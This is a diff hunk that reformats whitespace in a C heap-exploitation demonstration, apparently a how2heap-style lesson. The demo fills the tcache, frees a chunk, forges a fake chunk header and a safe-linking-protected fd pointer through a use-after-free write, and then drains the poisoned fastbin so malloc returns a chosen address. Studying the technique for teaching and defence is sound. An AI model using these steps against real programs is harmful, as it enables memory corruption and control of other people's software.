@@ -5,17 +5,17 @@
 
 int main(void)
 {
-    attack_begin();
-    char *a = malloc(40);
-    fill_tcache(40);
-    show("a", a);
-    free(a);
-    fake_area[1] = 0x31;                                   /* fake chunk: size 0x30 */
-    fake_area[2] = protect(&fake_area[2], NULL);           /* its fd: end of list */
-    *(uintptr_t *)a = protect(a, &fake_area[0]);
-    empty_tcache(40);
-    attack_staged("malloc(40) drains the poisoned fastbin");
-    show("first malloc(40)", malloc(40));
-    show("second malloc(40)", malloc(40));
-    return 0;
+	attack_begin();
+	char *a = malloc(40);
+	fill_tcache(40);
+	show("a", a);
+	free(a);
+	fake_area[1] = 0x31;                         /* fake chunk: size 0x30 */
+	fake_area[2] = protect(&fake_area[2], NULL); /* its fd: end of list */
+	*(uintptr_t *)a = protect(a, &fake_area[0]);
+	empty_tcache(40);
+	attack_staged("malloc(40) drains the poisoned fastbin");
+	show("first malloc(40)", malloc(40));
+	show("second malloc(40)", malloc(40));
+	return 0;
 }
